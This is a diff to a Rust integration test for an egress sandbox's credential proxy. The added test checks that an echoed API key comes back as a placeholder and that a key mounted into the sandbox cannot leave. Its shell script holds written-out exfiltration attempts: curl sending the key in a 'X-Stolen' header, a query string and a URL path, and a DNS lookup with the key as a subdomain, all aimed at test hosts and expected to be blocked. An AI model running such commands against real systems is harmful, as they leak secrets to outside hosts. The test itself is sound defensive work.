@@ -1,11 +1,13 @@
 //! Credentials the sandbox never holds (`docs/src/guide/credentials.md`): the program sends
-//! `$API_KEY`, which holds a placeholder; the proxy puts the real key on the wire to the one host
-//! of the credential. curl, Python (urllib, requests, httpx) and git go through HTTPS_PROXY, Node
-//! (no proxy support) takes the transparent path; all trust the run CA with no flags, also through
-//! the image's own bundle path with every trust variable unset. Other hosts never get the key; a
-//! placeholder sent elsewhere is `credential_misuse`; a host that is not inspected is a plain
-//! tunnel; `http://` to the credential host is upgraded to TLS. The same through `serve` (`run
-//! --server`, and the API's `secrets`).
+//! `$API_KEY`, which holds a placeholder; the proxy puts the real key on the wire to the one
+//! host of the credential. curl, Python (urllib, requests, httpx) and git go through
+//! HTTPS_PROXY, Node (no proxy support) takes the transparent path; all trust the run CA with
+//! no flags, also through the image's own bundle path with every trust variable unset. Other
+//! hosts never get the key; a placeholder sent elsewhere is `credential_misuse`; a host that is
+//! not inspected is a plain tunnel; `http://` to the credential host is upgraded to TLS. The
+//! same through `serve` (`run --server`, and the API's `secrets`). An upstream that hands the
+//! key back reaches the program as the placeholder; a key the sandbox holds by mistake cannot
+//! leave.
 
 use std::path::{Path, PathBuf};
 
@@ -13,6 +15,7 @@ use egress_sandbox::serve::client::{Client, ClientError};
 use serde_json::json;
 
 use crate::serve::Daemon;
+use crate::support::servers::ECHO_AUTHORIZATION;
 use crate::support::{GoSignal, Run, TestNetwork, Upstream, docker_ok, gateway_policy, random_hex};
 
 const HOST: &str = "api.cred.test";
@@ -542,5 +545,113 @@ curl -sS --max-time 20 https://{HOST}/alone"#
     let requests = upstream.requests();
     assert_eq!(requests.len(), 1, "{requests:?}");
     assert!(requests[0].head.contains(&format!("Bearer {secret}")));
+    run.assert_nothing_left();
+}
+
+/// The key handed back by the upstream reaches the program as the placeholder (header and
+/// body, counted in the record's `reflected`); the key mounted into the sandbox by mistake
+/// is refused wherever the program puts it (a header, a query, a path, a DNS name), and no
+/// record, report or output holds it.
+#[test]
+fn a_key_echoed_back_or_mounted_by_mistake_never_leaves_in_clear() {
+    let network = TestNetwork::create();
+    let gateway = network.gateway;
+    let echo_body = format!("{{\"authorization\": \"{ECHO_AUTHORIZATION}\"}}");
+    let (api, api_ca) = Upstream::https_with_test_ca((gateway, 443), &[HOST], &echo_body);
+    let plain = Upstream::http((gateway, 8080), "plain\n");
+    let secret = new_secret();
+    let (_ca_dir, ca_file) = pem_file(&api_ca);
+    let mounted = GoSignal::new();
+    let mount = mounted.mount();
+    let host_dir = mount.split(':').next().unwrap();
+    std::fs::write(Path::new(host_dir).join("key"), &secret).unwrap();
+    let mut yaml = gateway_policy(
+        "echoed",
+        gateway,
+        &[443, 8080],
+        &[(HOST, 443), (PLAIN, 8080)],
+    );
+    yaml += &format!("credentials:\n  - host: {HOST}\n    secret: API_KEY\n");
+    let code = "-o /dev/null -w '%{http_code}'";
+    let script = format!(
+        r#"set -u
+KEY=$(cat /go-signal/key)
+curl -sS -i --max-time 20 -H "Authorization: Bearer $API_KEY" https://{HOST}/echo | tr -d '\r' | sed 's/^/echo: /'; echo
+echo "header: $(curl -sS --max-time 20 {code} -H "X-Stolen: Bearer $KEY" http://{PLAIN}:8080/h)"
+echo "query: $(curl -sS --max-time 20 {code} "http://{PLAIN}:8080/q?k=$KEY")"
+echo "path: $(curl -sS --max-time 20 {code} "http://{PLAIN}:8080/$KEY/x")"
+python3 -c 'import socket, sys; socket.gethostbyname(sys.argv[1])' "$KEY.{PLAIN}" 2>/dev/null && echo "dns: resolved" || echo "dns: refused"
+"#
+    );
+    let run = Run::new(&network)
+        .policy(&yaml)
+        .caller_env("API_KEY", &secret)
+        .option("--secret", "API_KEY")
+        .option("--upstream-ca", &ca_file)
+        .resolve(HOST, gateway)
+        .resolve(PLAIN, gateway)
+        .option("--mount", &mount)
+        .timeout("60s")
+        .run(&["sh", "-c", &script]);
+    run.assert_code(0);
+    let echoed: Vec<&str> = run
+        .stdout
+        .lines()
+        .filter_map(|line| line.strip_prefix("echo: "))
+        .collect();
+    let placeholder_echoed = |line: &&str| line.contains("Bearer egress-sandbox-placeholder-");
+    assert!(
+        echoed
+            .iter()
+            .any(|line| line.starts_with("x-echo-auth:") && placeholder_echoed(line)),
+        "{}",
+        run.describe()
+    );
+    assert!(
+        echoed
+            .iter()
+            .any(|line| line.starts_with("{\"authorization\"") && placeholder_echoed(line)),
+        "{}",
+        run.describe()
+    );
+    let api_heads: Vec<String> = api.requests().into_iter().map(|r| r.head).collect();
+    assert_eq!(api_heads.len(), 1, "{api_heads:?}");
+    assert!(api_heads[0].contains(&format!("Bearer {secret}")));
+    for what in ["header: 403", "query: 403", "path: 403", "dns: refused"] {
+        assert!(
+            run.stdout.lines().any(|line| line == what),
+            "no {what:?}\n{}",
+            run.describe()
+        );
+    }
+    assert!(plain.requests().is_empty(), "{:?}", plain.requests());
+
+    let echo = run.audit_where(|record| record["path"] == "/echo");
+    assert_eq!(echo.len(), 1, "{}", run.describe());
+    assert_eq!(echo[0]["reflected"], 2, "header and body: {}", echo[0]);
+    let misuse = run.audit_where(|record| {
+        record["decision"] == "blocked" && record["reason"] == "credential_misuse"
+    });
+    let of_kind = |kind: &str| misuse.iter().filter(|r| r["kind"] == kind).count();
+    assert!(of_kind("http") >= 3, "{}", run.describe());
+    assert!(of_kind("dns") >= 1, "{}", run.describe());
+    assert!(
+        misuse.iter().any(|r| r["kind"] == "dns"
+            && r["host"]
+                .as_str()
+                .is_some_and(|host| host.starts_with("«secret:API_KEY»."))),
+        "{}",
+        run.describe()
+    );
+    let report = run.report_text.clone().unwrap_or_default();
+    assert_absent(
+        &secret,
+        &[
+            ("the sandbox's output", &run.stdout),
+            ("stderr", &run.stderr),
+            ("the audit log", &run.audit_text),
+            ("the report", &report),
+        ],
+    );
     run.assert_nothing_left();
 }
